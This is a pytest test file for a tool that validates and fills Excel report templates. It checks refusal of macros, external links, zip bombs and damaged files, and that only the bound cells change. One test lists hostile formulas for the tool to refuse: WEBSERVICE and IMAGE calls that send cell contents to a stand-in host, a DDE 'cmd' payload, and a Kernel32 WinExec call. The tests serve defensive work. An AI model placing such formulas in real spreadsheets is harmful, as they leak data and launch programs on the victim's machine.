"""The Excel file itself: what is refused, and that nothing but the bound cells changes in what is written."""

from __future__ import annotations

from contextlib import suppress
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from openpyxl import Workbook, load_workbook
from tests.ground.sheet.offices import xls
from tests.returns import workbooks as sent
from tests.returns.road import Road
from tests.returns.workbooks import complex_form, ledger_form, parts

from anwang.ground.refusal import Refusal
from anwang.returns.errors import NotATemplate, NotBound
from anwang.returns.filling import reckon
from anwang.returns.suggesting import suggest
from anwang.returns.template.layout import Grid, grids_of, moved, read_grid, split_ref
from anwang.returns.template.opening import open_book, open_sent
from anwang.returns.template.shifting import Shift
from anwang.returns.template.shifting import moved as pushed
from anwang.returns.template.writing import Edits, Lines, Written, write


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (sent.with_macro(), "宏"),
        (sent.with_external_link(), "外部"),
        (sent.with_fetched_picture(), "外部"),
        (sent.with_entities(), "实体"),
        (sent.with_torn_sheet(), "损坏"),
        (sent.with_wild_numbers(), "损坏"),
        (sent.bomb(), "膨胀"),
        (sent.filled_list(), "只留表样"),
        (complex_form()[:2000], "不完整"),
        (b"", "空的"),
        (b"%PDF-1.7 nothing", "PDF"),
        ("单位,数量\n甲厂,3\n".encode(), ".xlsx"),
    ],
)
def test_what_cannot_be_a_template_is_refused_with_a_sentence(content: bytes, words: str) -> None:
    with pytest.raises(Refusal) as caught:
        grids_of(open_book(content))
    assert words in str(caught.value)
    assert str(caught.value).endswith(("。", "！", "）"))


def test_an_old_workbook_is_told_to_be_saved_anew() -> None:
    with pytest.raises(NotATemplate) as caught:
        open_book(xls([["乡镇", "隐患数"], ["张八岭镇", 3]]))
    assert "另存为" in str(caught.value)
    assert ".xlsx" in str(caught.value)


def test_what_follows_the_numbers_by_itself_is_said() -> None:
    assert any("图表" in note for note in open_book(complex_form()).notes)


def filled(content: bytes, **cells: object) -> bytes:
    book, into = open_book(content), BytesIO()
    write(book, {book.pages[0].name: Edits(cells, {})}, into)  # type: ignore[arg-type]
    return into.getvalue()


def without_values(sheet: bytes, refs: set[str]) -> str:
    """A sheet's XML in normal form, the content of some cells left out."""
    tree = etree.fromstring(sheet)
    for cell in tree.iter("{*}c"):
        if cell.get("r") in refs:
            for each in list(cell):
                cell.remove(each)
            cell.attrib.pop("t", "")
    return etree.tostring(tree, method="c14n").decode()


def test_nothing_but_the_bound_cells_changes() -> None:
    before = complex_form()
    after = filled(before, B6=Decimal(3), C6=Decimal(12), F6=Decimal("0.846"), H7="=1+1", A2="填报单位：市安委办")
    old, new = parts(before), parts(after)
    assert set(old) == set(new)
    assert {name for name in old if old[name] != new[name]} == {"xl/worksheets/sheet1.xml"}
    refs = {"B6", "C6", "F6", "H7", "A2"}
    assert without_values(old["xl/worksheets/sheet1.xml"], refs) == without_values(new["xl/worksheets/sheet1.xml"], refs)
    styles = [{c.get("r"): c.get("s") for c in etree.fromstring(each["xl/worksheets/sheet1.xml"]).iter("{*}c")} for each in (old, new)]
    assert styles[0] == styles[1]


def test_a_text_never_becomes_a_formula_and_a_formula_is_never_overwritten() -> None:
    sheet = load_workbook(BytesIO(filled(complex_form(), H7="=1+1", H8="@SUM(1)", B10=Decimal(99))))["汇总表"]
    assert (sheet["H7"].value, sheet["H7"].data_type) == ("=1+1", "s")
    assert (sheet["H8"].value, sheet["H8"].data_type) == ("@SUM(1)", "s")
    assert sheet["B10"].value == "=SUM(B6:B9)"


def test_the_same_content_makes_the_same_file() -> None:
    assert filled(complex_form_once(), B6=Decimal(3)) == filled(complex_form_once(), B6=Decimal(3))


def test_a_cell_that_the_form_does_not_hold_is_put_in_its_place() -> None:
    sheet = load_workbook(BytesIO(filled(complex_form(), K40=Decimal(1), B7=Decimal(2), J6="文")))["汇总表"]
    assert (sheet["K40"].value, sheet["B7"].value, sheet["J6"].value) == (1, 2, "文")


def test_formulas_are_reckoned_with_what_was_filled() -> None:
    book = open_book(complex_form())
    grids = grids_of(book)
    found = reckon(grids, {"汇总表!B6": Decimal(3), "汇总表!B7": Decimal(4), "汇总表!B9": None})
    assert found.results["汇总表"]["B10"] == 7
    assert found.results["说明"]["A2"] == 14
    assert "汇总表!H6" in found.beyond


@pytest.mark.parametrize(
    ("formula", "result"),
    [
        ("SUM(A1:A3)", 6),
        ("SUM(A1:A3)/COUNT(A1:A3)", 2),
        ('IF(A9=0,"",A1/A9)', ""),
        ('IFERROR(A1/A9,"—")', "—"),
        ("ROUND(A2/A3*100,1)", Decimal("66.7")),
        ("ROUND(-2.5,0)", -3),
        ("-A1^2", 1),
        ("A1+A2%", Decimal("1.02")),
        ('AVERAGE(A1:A3)&"项"', "2项"),
        ("MAX(A1:A3,10)-MIN(A1:A3)", 9),
        ("SUBTOTAL(9,A1:A3)", 6),
        ("IF(AND(A1=1,NOT(A2>5)),A3,0)", 3),
        ("'表 1'!A1*$A$3", 3),
        ("VLOOKUP(A1,A1:B3,2)", None),
        ("A1/A9", None),
        ("D1", None),
        ("(A1", None),
    ],
)
def test_the_formulas_of_forms(formula: str, result: object) -> None:
    book = BytesIO()
    with xlsxwriter.Workbook(book, {"in_memory": True}) as made:
        sheet = made.add_worksheet("表 1")
        sheet.write_column(0, 0, [1, 2, 3])
        sheet.write_formula("C1", f"={formula}")
        sheet.write_formula("D1", "=E1")
        sheet.write_formula("E1", "=D1+1")
    assert reckon(grids_of(open_book(book.getvalue())), {}).results["表 1"]["C1"] == result


def listed(count: int, ready: int = 2) -> tuple[bytes, Grid]:
    book, into = open_book(ledger_form(ready)), BytesIO()
    rows: list[list[Written]] = [
        [number, f"第{number}厂", "", "=HYPERLINK(1)", "一般隐患", date(2026, 3, 1), "张三", Decimal("1.5")]
        for number in range(1, count + 1)
    ]
    write(book, {"台账": Edits({}, {f"H{3 + ready}": None}, Lines(3, ready, count, tuple(range(1, 9)), rows))}, into, reckon=True)
    return into.getvalue(), read_grid(open_book(into.getvalue()), open_book(into.getvalue()).pages[0])


def test_a_list_pushes_down_what_stands_below_and_every_reference_with_it() -> None:
    content, _ = listed(7)
    book = load_workbook(BytesIO(content))
    sheet = book["台账"]
    assert [sheet.cell(row, 2).value for row in range(3, 11)] == [*[f"第{number}厂" for number in range(1, 8)], None]
    assert sheet["A10"].value == "合计"
    assert sheet["H10"].value == "=SUM(H3:H9)"
    assert {str(each) for each in sheet.merged_cells.ranges} == {"A1:H1", "A11:D11"}
    assert sheet.data_validations.dataValidation[0].sqref == "E3:E9"
    assert sheet.print_area == "'台账'!$A$1:$H$11"
    assert (sheet["D5"].value, sheet["D5"].data_type) == ("=HYPERLINK(1)", "s")
    assert all(sheet.cell(row, 3).border.left.style == "thin" for row in range(3, 10))
    assert sheet.row_dimensions[9].height == 30
    assert book.calculation.fullCalcOnLoad


@pytest.mark.parametrize("count", [0, 1, 2])
def test_a_list_that_fits_moves_nothing(count: int) -> None:
    content, grid = listed(count)
    assert grid.text(5, 1) == "合计"
    assert load_workbook(BytesIO(content))["台账"]["H5"].value == "=SUM(H3:H4)"
    assert [bool(grid.text(row, 2)) for row in (3, 4)] == [count > 0, count > 1]


def test_a_form_with_one_ready_row_grows_its_total() -> None:
    content, _ = listed(4, ready=1)
    assert load_workbook(BytesIO(content))["台账"]["H7"].value == "=SUM(H3:H6)"


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ("SUM(C3:C12)+C13", "SUM(C3:C22)+C23"),
        ("其他!C13+台账!C13", "其他!C13+台账!C23"),
        ('"C13"&C13', '"C13"&C23'),
        ("$C$13-C2", "$C$23-C2"),
        ("LOG10(C13)", "LOG10(C23)"),
    ],
)
def test_references_move_and_words_do_not(formula: str, expected: str) -> None:
    assert pushed(formula, "台账", {"台账": Shift(3, 10, 10)}) == expected


def test_a_shared_formula_means_its_own_cells() -> None:
    assert moved('B2*$C$1+SUM(B2:B$9)&"B2"', 3, 1) == 'C5*$C$1+SUM(C5:C$9)&"B2"'


@pytest.mark.parametrize("ref", ["", "5C", "C0", "ZZZZ1", "A1048577", "C5:D6", "=1"])
def test_what_is_no_cell_is_refused(ref: str) -> None:
    with pytest.raises(NotBound):
        split_ref(ref)


@given(st.binary(max_size=400), st.integers(min_value=0, max_value=30))
def test_a_torn_workbook_never_breaks_the_room(noise: bytes, place: int) -> None:
    whole = complex_form_once()
    at = place * len(whole) // 31
    _refused_or_read(whole[:at] + noise + whole[at + len(noise) :])


_ONCE: list[bytes] = []


def complex_form_once() -> bytes:
    if not _ONCE:
        _ONCE.append(complex_form())
    return _ONCE[0]


def _refused_or_read(content: bytes) -> None:
    with suppress(Refusal):  # any other exception fails the test
        grids_of(open_book(content))


@pytest.mark.parametrize(
    "part", ["xl/styles.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"]
)
def test_a_part_missing_or_wild_is_refused_or_read(part: str) -> None:
    def drop(found: dict[str, bytes]) -> None:
        found.pop(part, None)

    def tear(found: dict[str, bytes]) -> None:
        found[part] = found.get(part, b"<a/>")[:60]

    for change in (drop, tear):
        _refused_or_read(sent.changed(complex_form_once(), change))


@pytest.mark.parametrize(
    "formula",
    [
        '=_xlfn.WEBSERVICE("http://x.invalid/?"&B3)',
        '=_xlfn.IMAGE("http://x.invalid/"&B3)',
        "=cmd|' /C calc'!A0",
        '=RTD("a.b",,"c")',
        '=1+call("Kernel32","WinExec","JCJ","calc",0)',
    ],
)
def test_a_formula_that_reaches_out_is_refused(formula: str) -> None:
    with pytest.raises(NotATemplate) as refused:
        open_sent(sent.with_formula(formula))
    assert "会联网取数或启动程序的公式" in refused.value.text


@pytest.mark.parametrize(
    "formula",
    ["=SUM(B3:B9)", '=IF(B3=0,"cmd|a!b",1)', '=HYPERLINK("http://x.invalid","说明")', "=Recall(B3)", "='甲|乙'!A1", "+1+1", "@SUM(1)"],
)
def test_plain_formulas_and_texts_are_taken(formula: str) -> None:
    assert open_sent(sent.with_formula(formula)).pages


def test_cells_as_long_as_a_sheet_allows_are_no_labels(road: Road) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"], sheet["A2"], sheet["B2"], sheet["A3"] = "隐患情况表", "填表人：" * 6000, "填报日期：   年  月  日" * 2000, " " * 32000
    sheet["A4"], sheet["A5"] = "填报单位：", "填表人：      填报日期：   年  月  日"
    cells = suggest(grids_of(open_sent(sent.bytes_of(book))), road.world.county, date(2026, 3, 31)).bindings.cells["Sheet"]
    assert {ref: ask.text for ref, ask in cells.items()} == {"A4": "填报单位：{单位}", "A5": "填表人：{填表人}      填报日期：{填报日}"}
